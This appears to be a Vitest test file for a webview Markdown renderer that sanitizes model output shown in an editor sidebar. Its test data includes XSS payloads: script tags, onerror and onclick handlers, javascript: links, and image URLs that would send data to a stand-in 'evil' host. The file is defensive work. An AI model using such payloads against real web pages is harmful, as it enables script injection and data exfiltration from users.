// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { type WebviewMessage } from '../../src/shared/protocol.js';
import { bindLinkHandler, MarkdownRenderer } from '../../src/webview/markdown.js';
import { click, makeTask, mountHarness, snapshotMessage } from './support/harness.js';

function render(text: string): HTMLElement {
  const container = document.createElement('div');
  container.append(new MarkdownRenderer(window).render(text));
  return container;
}

describe('Markdown from model output', () => {
  it('renders ordinary Markdown', () => {
    const html = render('## Title\n\nSome *emphasis*, `code` and\n\n```ts\nconst x = 1;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |');
    expect(html.querySelector('h2')!.textContent).toBe('Title');
    expect(html.querySelector('em')!.textContent).toBe('emphasis');
    expect(html.querySelector('pre code')!.textContent).toBe('const x = 1;\n');
    expect(html.querySelectorAll('td')).toHaveLength(2);
  });

  it('neither runs script nor loads remote images, however the payload is written', () => {
    const payloads = [
      '<script>window.pwned = true</script>',
      '<img src="https://evil/x?data" onerror="window.pwned = true">',
      '![secret](https://evil/x?data=secret)',
      '[click](javascript:window.pwned=true)',
      '<a href="https://evil" onclick="window.pwned=true">x</a>',
      '<iframe src="https://evil"></iframe><form action="https://evil"><input></form><style>body{display:none}</style>',
      '<svg><script>window.pwned = true</script></svg>',
      '<div role="treeitem" data-task-id="fake" aria-label="Stop">spoof</div>',
    ];
    const html = render(payloads.join('\n\n'));
    expect(html.querySelectorAll('script, iframe, form, input, style, svg')).toHaveLength(0);
    expect(html.querySelectorAll('img')).toHaveLength(0);
    expect(html.querySelectorAll('[onerror], [onclick], [href], [role="treeitem"], [data-task-id]')).toHaveLength(0);
    expect((window as { pwned?: boolean }).pwned).toBeUndefined();
    // Raw HTML is shown as text rather than parsed, and a Markdown image keeps its alt text.
    expect(html.textContent).toContain('<script>window.pwned = true</script>');
    expect(html.textContent).toContain('secret');
    expect(html.innerHTML).not.toContain('https://evil/x?data=secret');
  });

  it('sanitizes even HTML that bypassed the Markdown escaping', () => {
    const container = document.createElement('div');
    container.append(
      new MarkdownRenderer(window).sanitize(
        '<p>ok</p><script>window.pwned = true</script><img src="https://evil/x?data" onerror="window.pwned = true">' +
          '<a href="javascript:window.pwned=true">js</a><iframe src="https://evil"></iframe><p style="color:red" class="codicon">styled</p>' +
          '<img src="data:image/png;base64,iVBORw0KGgo=" srcset="https://evil/x 2x">',
      ),
    );
    expect(container.querySelectorAll('script, iframe, [style], [class], [onerror], [href], [srcset]')).toHaveLength(0);
    expect(Array.from(container.querySelectorAll('img')).map((image) => image.getAttribute('src'))).toEqual([
      'data:image/png;base64,iVBORw0KGgo=',
    ]);
    expect(container.textContent).toContain('ok');
    expect(container.textContent).toContain('styled');
    expect((window as { pwned?: boolean }).pwned).toBeUndefined();
  });

  it('keeps inline data: images only', () => {
    const html = render('![dot](data:image/png;base64,iVBORw0KGgo=)');
    expect(html.querySelector('img')!.getAttribute('src')).toBe('data:image/png;base64,iVBORw0KGgo=');
  });

  it('turns allowed links into buttons for the host, and other links into text', () => {
    const html = render(
      'See [the docs](https://example.com/docs), <https://example.com/auto>, [mail](mailto:a@example.com) and [local](./file.ts).',
    );
    const links = Array.from(html.querySelectorAll('a'));
    expect(links.map((link) => link.getAttribute('data-href'))).toEqual(['https://example.com/docs', 'https://example.com/auto']);
    expect(links.every((link) => !link.hasAttribute('href') && link.getAttribute('role') === 'link')).toBe(true);
    expect(html.textContent).toContain('local');
    expect(html.textContent).toContain('mail');

    const posted: WebviewMessage[] = [];
    document.body.append(html);
    bindLinkHandler(html, (message) => posted.push(message));
    const event = new MouseEvent('click', { bubbles: true, cancelable: true });
    links[0].dispatchEvent(event);
    expect(event.defaultPrevented).toBe(true);
    expect(posted).toEqual([{ type: 'open-link', url: 'https://example.com/docs' }]);
    html.remove();
  });

  it('is sanitized in the sidebar itself: a hostile transcript leaves no script or remote image in the document', () => {
    const harness = mountHarness();
    harness.send(snapshotMessage([makeTask({ id: 't1', status: 'completed' })]));
    click(harness.row('t1'));
    harness.scheduler.runFrame();
    harness.send({
      type: 'task-detail',
      taskId: 't1',
      prompt: 'p',
      output: '<img src="https://evil/x?data" onerror="alert(1)"> [docs](https://example.com)',
    });
    harness.send({
      type: 'transcript',
      taskId: 't1',
      index: 0,
      entries: [{ type: 'text', text: '<script>alert(1)</script>![x](https://evil/x?data)' }],
    });
    expect(document.querySelectorAll('script')).toHaveLength(0);
    expect(Array.from(document.querySelectorAll('img')).filter((image) => !image.src.startsWith('data:'))).toHaveLength(0);
    expect(document.querySelectorAll('[onerror]')).toHaveLength(0);
    harness.posted.length = 0;
    click(harness.root.querySelector('.detail-result [data-href]')!);
    expect(harness.posted).toEqual([{ type: 'open-link', url: 'https://example.com' }]);
  });
});
